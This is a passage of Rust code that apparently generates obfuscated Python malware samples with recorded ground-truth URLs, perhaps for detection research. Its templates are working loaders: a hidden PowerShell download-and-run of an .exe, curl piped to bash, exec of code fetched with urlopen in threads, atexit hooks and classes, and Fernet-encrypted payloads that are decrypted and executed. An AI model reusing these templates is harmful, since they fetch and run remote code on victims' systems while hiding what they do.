            "@NAME@ = @URL@\nif platform.system() == 'Windows':\n    subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-Command', f\"iwr -Uri '{@NAME@}' -OutFile $env:TEMP/@FILE@.exe; start $env:TEMP/@FILE@.exe\"])\nelse:\n    subprocess.Popen(f\"curl -fsSL '{@NAME@}' | bash\", shell=True)\n",
        ]),
        &[("NAME", &name), ("URL", &word), ("FILE", &file)],
    )
}

/// In a thread or at the end of the program.
fn threads(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", ".py"]);
    let word = address(dice, &url, &mut out);
    let name = veiled(dice);
    let form = dice.pick(&[
        "import threading, urllib.request\ndef @NAME@(u):\n    try:\n        exec(urllib.request.urlopen(u).read(), globals())\n    except Exception:\n        pass\nthreading.Thread(target=@NAME@, args=(@URL@,)).start()\n",
        "import atexit, urllib.request\n@NAME@ = @URL@\n@atexit.register\ndef bye():\n    exec(urllib.request.urlopen(@NAME@).read())\n",
        "from concurrent.futures import ThreadPoolExecutor\nimport urllib.request\nwith ThreadPoolExecutor(2) as @NAME@:\n    f = @NAME@.submit(lambda u: urllib.request.urlopen(u).read(), @URL@)\n    exec(f.result())\n",
        "import functools, urllib.request\n@NAME@ = functools.partial(urllib.request.urlopen, @URL@, timeout=9)\nexec(@NAME@().read())\n",
    ]);
    out + &put(form, &[("NAME", &name), ("URL", &word)])
}

/// Classes and decorators of renamed things.
fn classes(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", ".txt", ".exe"]);
    let word = hide(dice, &url, &mut out);
    let (class, method, field) = (veiled(dice), veiled(dice), veiled(dice));
    let file = dice.name();
    out + &put(
        dice.pick(&[
            "import urllib.request, os, tempfile\nclass @CLASS@(object):\n    def __init__(self, @FIELD@=@URL@):\n        self.@FIELD@ = @FIELD@\n        self.path = os.path.join(tempfile.gettempdir(), '@FILE@')\n    def @METHOD@(self):\n        r = urllib.request.urlopen(self.@FIELD@)\n        with open(self.path, 'wb') as f:\n            f.write(r.read())\n        return self\n    def __call__(self):\n        os.system('sh ' + self.path)\n@CLASS@().@METHOD@()()\n",
            "class @CLASS@:\n    @FIELD@ = @URL@\n    @staticmethod\n    def @METHOD@():\n        import urllib.request\n        return urllib.request.urlopen(@CLASS@.@FIELD@).read()\nexec(@CLASS@.@METHOD@())\n",
            "class @CLASS@:\n    def __init__(self, execute):\n        if execute == True:\n            self.@METHOD@()\n    def @METHOD@(self):\n        from urllib.request import urlopen as @FIELD@\n        (lambda f, u: exec(f(u).read()))(@FIELD@, @URL@)\n@CLASS@(execute=True)\n",
        ]),
        &[("CLASS", &class), ("FIELD", &field), ("METHOD", &method), ("URL", &word), ("FILE", &file)],
    )
}

/// Fernet, as packages have it.
fn token(dice: &mut Dice, truth: &mut Truth) -> String {
    let inner = if dice.chance(50) { opened(dice, truth) } else { requested(dice, truth) };
    let (key, token) = fernet(dice, inner.as_bytes());
    let name = veiled(dice);
    put(
        dice.pick(&[
            "from cryptography.fernet import Fernet\n@NAME@ = Fernet(b'@KEY@')\nexec(@NAME@.decrypt(b'@TOKEN@'))\n",
            "import os\ntry:\n    from fernet import Fernet\nexcept ImportError:\n    from cryptography.fernet import Fernet\nexec(Fernet(b'@KEY@').decrypt(b'@TOKEN@').decode())\n",
            "from cryptography.fernet import Fernet as @NAME@\nkey = '@KEY@'\ndata = '@TOKEN@'\neval(compile(@NAME@(key.encode()).decrypt(data.encode()), '<s>', 'exec'))\n",
        ]),
        &[("NAME", &name), ("KEY", &key), ("TOKEN", &token)],
    )
}

/// Several files of one server.
fn several(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let origin = Truth::origin(dice);
    let files: Vec<String> = (0..2 + dice.below(3))
        .map(|_| dice.name() + dice.pick(&[".py", ".bin", "", ".so"]))
        .collect();
    for file in &files {
        truth.joined(&origin, &format!("/{file}"));
    }
    let word = hide(dice, &origin, &mut out);
    let (base, list) = (veiled(dice), quoted(&files, '\'').join(", "));
    out + &put(
        dice.pick(&[
            "import urllib.request\n@BASE@ = @URL@\nfor f in [@LIST@]:\n    urllib.request.urlretrieve(f'{@BASE@}/{f}', '/tmp/' + f)\n",
            "import urllib.request, urllib.parse\n@BASE@ = @URL@\n_ = [open('/tmp/%s' % n, 'wb').write(urllib.request.urlopen(urllib.parse.urljoin(@BASE@, '/' + n)).read()) for n in (@LIST@)]\n",
            "import os\n@BASE@ = @URL@\nqueue = [@LIST@]\nwhile queue:\n    item = queue.pop(0)\n    os.system('curl -s -o /tmp/{0} {1}/{0}'.format(item, @BASE@))\n",
        ]),
        &[("BASE", &base), ("URL", &word), ("LIST", &list)],
    )
}
